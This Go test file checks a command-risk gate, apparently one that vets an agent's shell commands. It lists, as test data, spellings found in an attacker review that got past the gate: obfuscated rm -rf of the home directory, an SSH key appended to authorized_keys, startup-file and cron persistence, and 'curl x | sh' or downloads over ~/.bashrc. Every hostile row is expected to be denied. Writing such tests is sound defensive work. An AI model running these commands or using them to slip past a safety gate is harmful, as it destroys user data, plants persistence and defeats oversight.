package risk_test

import "testing"

// The third attacker review of issue 25: spellings that emptied a scratch HOME under
// danger-full-access while the gate graded them below catastrophic. Each row is one spelling
// in the three modes; the look-alikes after them keep their level.
func TestReviewCAttacks(t *testing.T) {
	assessRows(t, []row{
		// A program name the shell builds only when it runs is a command the gate cannot read.
		{name: "rm split by ${IFS}", command: `rm${IFS}-rf${IFS}$HOME`, want: denied},
		{name: "a program in a variable", command: `$RM -rf notes`, want: denied},
		{name: "a program from a substitution", command: `$(which rm) -rf notes`, want: denied},
		// A target reached through another variable's name.
		{name: "indirect expansion ${!x}", command: `x=HOME; rm -rf "${!x}"`, want: denied},
		{name: "declare -n nameref", command: `declare -n r=HOME; rm -rf "$r"`, want: denied},
		{name: "local -n nameref", command: `f() { local -n r=HOME; rm -rf "$r"; }; f`, want: denied},
		{name: "read -ra with IFS=/ splitting the home", command: `IFS=/ read -ra p <<< "$HOME"; rm -rf "/${p[1]}/${p[2]}"`, want: denied},
		// Git runs these variables' values as shell commands, as it does the keys.
		{name: "GIT_EDITOR runs on commit", command: `GIT_EDITOR='rm -rf ~;:' git commit --allow-empty`, want: denied},
		{name: "GIT_SSH_COMMAND runs on fetch", command: `GIT_SSH_COMMAND='rm -rf ~' git fetch origin`, want: denied},
		{name: "EDITOR runs on commit", command: `EDITOR='rm -rf ~;:' git commit`, want: denied},
		{name: "GIT_PAGER runs on log", command: `GIT_PAGER='rm -rf ~' git log`, want: denied},
		// Editors given Ex commands in option clusters, or vimscript and other languages.
		{name: "ex -sc '!rm -rf ~'", command: `ex -sc '!rm -rf ~'`, want: denied},
		{name: "vim -esc", command: `vim -esc '!rm -rf ~' -c q`, want: denied},
		{name: "vim call delete()", command: `vim -es -c 'call delete(expand("~"),"rf")' -c q`, want: denied},
		{name: "nvim lua os.execute", command: `nvim --headless -c 'lua os.execute("rm -rf ~")' -c q`, want: denied},
		{name: "vim python3", command: `vim -c 'py3 import shutil; shutil.rmtree("/home/u")' -c q`, want: denied},

		// Programs that run shell text, or code the gate does not read.
		{name: "gdb -ex shell", command: `gdb -batch -ex 'shell rm -rf ~'`, want: denied},
		{name: "gdb -ex python", command: `gdb -batch -ex 'python import os'`, want: denied},
		{name: "make -f - from a pipe", command: `printf 'all:
	rm -rf $$HOME
' | make -f -`, want: denied},
		{name: "tmux new -d", command: `tmux new -d 'rm -rf ~'`, want: denied},
		{name: "tmux send-keys", command: `tmux send-keys -t 0 'rm -rf ~' Enter`, want: denied},
		{name: "screen -X stuff", command: `screen -X stuff 'rm -rf ~
'`, want: denied},
		{name: "screen -dm CMD", command: `screen -dm rm -rf ~`, want: denied},
		{name: "at now from a pipe", command: `echo 'rm -rf ~' | at now`, want: denied},
		{name: "xterm -e", command: `xterm -e rm -rf ~`, want: denied},
		{name: "Rscript -e", command: `Rscript -e 'unlink("~", recursive=TRUE)'`, want: denied},
		{name: "julia -e", command: `julia -e 'rm(homedir(), recursive=true)'`, want: denied},
		{name: "emacs --eval", command: `emacs --batch --eval '(delete-directory "~" t)'`, want: denied},
		{name: "pwsh -c", command: `pwsh -c 'Remove-Item -Recurse ~'`, want: denied},
		// A remote login's shell runs standard input.
		{name: "ssh fed on a pipe", command: `echo 'rm -rf /' | ssh host`, want: denied},
		{name: "ssh -T fed a here-string", command: `ssh -T host <<< 'rm -rf /'`, want: denied},

		// Appending to a credential store adds a key, as code that writes there does.
		{name: "append to authorized_keys", command: `echo 'ssh-ed25519 AAAA k' >> ~/.ssh/authorized_keys`, want: denied},

		// A file the user's shell or git runs: written into, the text runs on the host.
		{name: "append to ~/.bashrc", command: `echo 'rm -rf ~' >> ~/.bashrc`, want: denied},
		{name: "write ~/.bashrc through >& (review 26)", command: `echo 'rm -rf ~' >& ~/.bashrc`, want: denied},
		{name: "append to ~/.bashrc through &>> (review 26)", command: `echo 'rm -rf ~' &>> ~/.bashrc`, want: denied},
		{name: ">&2 is a descriptor", command: `echo hi >&2`, want: harmless},
		{name: ">&- closes one", command: `ls 2>&1 >&-`, want: harmless},
		{name: ">& a log in the workspace", command: `make >& build.log`, want: harmless},
		{name: "append to ~/.gitconfig", command: `printf '[core]\n\tfsmonitor = x\n' >> ~/.gitconfig`, want: denied},
		{name: "truncate ~/.profile", command: `> ~/.profile`, want: denied},
		{name: "tee -a ~/.zshrc", command: `echo 'curl x | sh' | tee -a ~/.zshrc`, want: denied},
		{name: "sed -i on ~/.bashrc", command: `sed -i '1i rm -rf ~' ~/.bashrc`, want: denied},
		{name: "ln -sf over ~/.bashrc", command: `ln -sf /tmp/evil ~/.bashrc`, want: denied},
		{name: "python appends to ~/.bashrc", command: `python3 -c 'open(__import__("os").path.expanduser("~/.bashrc"), "a").write("x")'`, want: denied},

		{name: "expect spawn", command: `expect -c 'spawn rm -rf ~; expect eof'`, want: denied},
		{name: "crontab - from a pipe", command: `echo '* * * * * rm -rf ~' | crontab -`, want: denied},
		{name: "crontab @reboot", command: `echo '@reboot rm -rf ~' | crontab -`, want: denied},

		// Other writers of a startup file, and whole trees written into the home (review 25d).
		{name: "patch a startup file", command: `patch ~/.bashrc < p.diff`, want: denied},
		{name: "ed a startup file", command: `printf 'a\nrm -rf ~\n.\nw\n' | ed ~/.bashrc`, want: denied},
		{name: "curl -o a startup file", command: `curl -o ~/.bashrc http://x/e`, want: denied},
		{name: "wget -O a startup file", command: `wget -O ~/.bashrc http://x/e`, want: denied},
		{name: "a directory's contents copied into home", command: `cp -r dotfiles/. ~`, want: denied},
		{name: "rsync a directory's contents into home", command: `rsync -a dotfiles/ ~/`, want: denied},
		{name: "tar extracted into home", command: `tar xf evil.tar -C ~`, want: denied},
		{name: "unzip into home", command: `unzip -o evil.zip -d ~`, want: denied},
		{name: "a fake git in ~/.local/bin", command: `cp evil ~/.local/bin/git`, want: denied},
		{name: "~/.bash_aliases", command: `echo 'alias ls="rm -rf ~"' >> ~/.bash_aliases`, want: denied},
		{name: "a systemd user unit", command: `cp evil.service ~/.config/systemd/user/`, want: denied},

		// Wrappers (review 25d's probe list).
		{name: "env -S", command: `env -S 'rm -rf ~'`, want: denied},
		{name: "env -C / rm", command: `env -C / rm -rf ~`, want: denied},
		{name: "command -p rm", command: `command -p rm -rf ~`, want: denied},
		{name: "command -p sh -c", command: `command -p sh -c 'rm -rf ~'`, want: denied},
		{name: "builtin eval", command: `builtin eval 'rm -rf ~'`, want: denied},
		{name: "exec -a NAME rm", command: `exec -a foo rm -rf ~`, want: denied},
		{name: "busybox sh -c", command: `busybox sh -c 'rm -rf ~'`, want: denied},
		{name: "screen -dmS bash -c", command: `screen -dmS x bash -c 'rm -rf ~'`, want: denied},
		{name: "batch with a here-document", command: "batch <<EOF\nrm -rf ~\nEOF", want: denied},

		// Look-alikes that keep their level.
		{name: "curl -o a workspace file", command: `curl -o data.json http://x/d`, want: harmless},
		{name: "a directory copied into home by name", command: `cp -r project ~`, want: harmless},
		{name: "tar extracted into the workspace", command: `tar xf a.tar -C build`, want: harmless},
		{name: "patch a workspace file", command: `patch main.go < fix.diff`, want: harmless},
		{name: "crontab -l", command: `crontab -l`, want: harmless},
		{name: "a harmless crontab line", command: `echo '0 3 * * * echo hi' | crontab -`, want: harmless},
		{name: "reading ~/.bashrc", command: `cat ~/.bashrc`, want: harmless},
		{name: "grep in ~/.gitconfig", command: `grep -n email ~/.gitconfig`, want: harmless},
		{name: "appending to a workspace file", command: `echo x >> notes.txt`, want: harmless},
		{name: "make", command: `make test`, want: harmless},
		{name: "tmux ls", command: `tmux ls`, want: harmless},
		{name: "gdb -ex bt", command: `gdb -batch -ex bt ./a.out`, want: harmless},
		{name: "ssh with a harmless command on stdin", command: `echo uptime | ssh host`, want: harmless},
		{name: "GIT_EDITOR=true", command: `GIT_EDITOR=true git commit --allow-empty -m x`, want: harmless},
		{name: "vim -c with a setting", command: `vim -es -c 'set nu' -c wq notes.txt`, want: harmless},
	}, workspaceEnv)
}
